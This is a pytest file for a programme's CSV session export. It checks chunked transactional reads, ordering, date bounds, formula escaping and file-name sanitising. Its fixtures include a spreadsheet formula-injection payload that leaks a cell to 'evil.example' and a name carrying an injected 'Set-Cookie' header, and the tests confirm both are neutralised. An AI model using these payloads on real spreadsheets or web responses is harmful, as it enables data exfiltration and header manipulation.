"""A programme's exports read in chunks: the CSV read back by Python's csv module (a BOM first, formulas made
harmless, every row once in start order), each chunk in a transaction of its own with none open while the reader
pauses between chunks, and the period's bounds."""

from __future__ import annotations

import codecs
import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session, sessionmaker

from models import Programme, ProgrammeStatus
from tests.factories.accounts import UserFactory
from tests.factories.mentors import ListingFactory, MentorProfileFactory
from tests.factories.sessions import GroupSessionFactory
from workflows.errors import InvalidInput
from workflows.reports import exports

START = datetime(2031, 3, 3, 9, tzinfo=UTC)
PERIOD = exports.Period(date(2031, 3, 1), date(2031, 3, 31))
# Names a spreadsheet would run as formulas, and one it would not.
FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+1", "-2", "@SUM(A1:A9)", "\tTabbed",
            "\rReturned")


def _programme(db: Session) -> uuid.UUID:
    programme = Programme(id=uuid.uuid4(), name="Spring cohort", status=ProgrammeStatus.RUNNING)
    db.add(programme)
    db.flush()
    return programme.id


def _sessions(db: Session, programme_id: uuid.UUID, names: list[str], *, each: int = 1) -> list[uuid.UUID]:
    """``each`` group sessions a day of the programme, one mentor of each name, in start order; their ids."""
    made = []
    for index, name in enumerate(names):
        listing = ListingFactory(mentor_profile=MentorProfileFactory(user=UserFactory(display_name=name)),
                                 kind="group", capacity=5, programme_id=programme_id)
        for one in range(each):
            start = START + timedelta(days=one, minutes=index)
            made.append(GroupSessionFactory(listing=listing, programme_id=programme_id, start_time=start,
                                            end_time=start + timedelta(minutes=45)))
    db.flush()
    return [one.id for one in sorted(made, key=lambda s: (s.start_time, s.id))]


def _read_back(pieces: list[bytes]) -> list[list[str]]:
    body = b"".join(pieces)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_a_csv_read_back_has_every_session_once_in_start_order_and_no_formula(
        db: Session, session_factory: sessionmaker[Session]) -> None:
    programme_id = _programme(db)
    ids = _sessions(db, programme_id, [*FORMULAS, "Ada Lovelace", "O'Brien, Ann"])
    _sessions(db, _programme(db), ["Elsewhere"])  # another programme's
    db.commit()
    chunks = list(exports.chunks(session_factory, "sessions", programme_id, PERIOD, chunk_rows=3))
    assert [len(chunk) for chunk in chunks] == [3, 3, 2]
    header, *rows = _read_back(list(exports.csv_bytes("sessions", chunks)))
    assert header == list(exports.EXPORTS["sessions"].columns)
    assert [row[0] for row in rows] == [str(one) for one in ids]
    names = [row[header.index("mentor_name")] for row in rows]
    assert names == [*(f"'{name}" for name in FORMULAS), "Ada Lovelace", "O'Brien, Ann"]
    first = dict(zip(header, rows[0], strict=True))
    assert first | {"session_id": ""} == {
        "session_id": "", "pairing_id": "", "mentor_name": f"'{FORMULAS[0]}", "mentee_name": "", "kind": "group",
        "start_time": "2031-03-03T09:00:00+00:00", "end_time": "2031-03-03T09:45:00+00:00", "minutes": "45",
        "status": "scheduled", "cancelled_by": "", "cause": ""}


def test_a_chunk_size_that_divides_the_rows_yields_no_empty_chunk(db: Session,
                                                                  session_factory: sessionmaker[Session]) -> None:
    programme_id = _programme(db)
    _sessions(db, programme_id, ["Ada", "Grace"], each=3)
    db.commit()
    assert [len(chunk) for chunk in exports.chunks(session_factory, "sessions", programme_id, PERIOD,
                                                   chunk_rows=2)] == [2, 2, 2]
    assert list(exports.chunks(session_factory, "sessions", programme_id,
                               exports.Period(date(2031, 4, 1), date(2031, 4, 30)))) == []
    header, *rows = _read_back(list(exports.csv_bytes("sessions", [])))
    assert rows == [] and header[0] == "session_id"


def _open_transactions(committed: sessionmaker[Session]) -> list[str]:
    """What the other connections to this database hold open: the states of those inside a transaction."""
    with committed() as watcher:
        return list(watcher.scalars(text(
            "SELECT state FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() "
            "AND state LIKE 'idle in transaction%'")))


def test_each_chunk_is_read_in_its_own_transaction_and_none_stays_open_between(
        seed: Session, committed: sessionmaker[Session]) -> None:
    programme_id = _programme(seed)
    ids = _sessions(seed, programme_id, ["Ada", "Grace", "Linus"], each=3)
    seed.commit()
    reader = exports.chunks(committed, "sessions", programme_id, PERIOD, chunk_rows=4)
    seen: list[uuid.UUID] = []
    for chunk in reader:  # the download pauses here, between chunks: nothing is held open meanwhile
        seen += [row.session_id for row in chunk]
        assert _open_transactions(committed) == []
    assert seen == ids


def test_the_period_defaults_to_the_programmes_dates_else_a_year_and_is_bounded() -> None:
    cohort = Programme(name="Cohort", starts_on=date(2031, 1, 6), ends_on=date(2031, 6, 27))
    ongoing = Programme(name="Ongoing")
    today = date(2031, 5, 1)
    assert exports.period_of(cohort, None, None, today) == exports.Period(date(2031, 1, 6), date(2031, 6, 27))
    assert exports.period_of(ongoing, None, None, today) == exports.Period(date(2030, 5, 2), today)
    assert exports.period_of(ongoing, date(2029, 5, 1), date(2031, 5, 1), today).last == date(2031, 5, 1)  # 731 days
    for first, last in ((date(2029, 4, 30), date(2031, 5, 1)), (date(2031, 5, 2), date(2031, 5, 1)),
                        (date(1999, 12, 31), date(2000, 1, 5)), (None, date(2029, 1, 1))):
        with pytest.raises(InvalidInput):
            exports.period_of(cohort, first, last, today)


def test_a_spreadsheet_never_runs_a_cell_and_the_file_name_is_safe() -> None:
    assert [exports.spreadsheet_safe(text) for text in ("=1+1", "+1", "-2", "@x", "\tx", "\rx", "a=b", "1-2", "")] \
        == ["'=1+1", "'+1", "'-2", "'@x", "'\tx", "'\rx", "a=b", "1-2", ""]
    programme = Programme(name='Été "2031" / <Berlin>; x\r\nSet-Cookie: a=b')
    name = exports.filename(programme, "sessions", PERIOD)
    assert name == "t-2031-berlin-x-set-cookie-a-b-sessions-2031-03-01-2031-03-31.csv"
    assert exports.filename(Programme(name="ÉÉÉ"), "pairs", PERIOD).startswith("programme-pairs-")
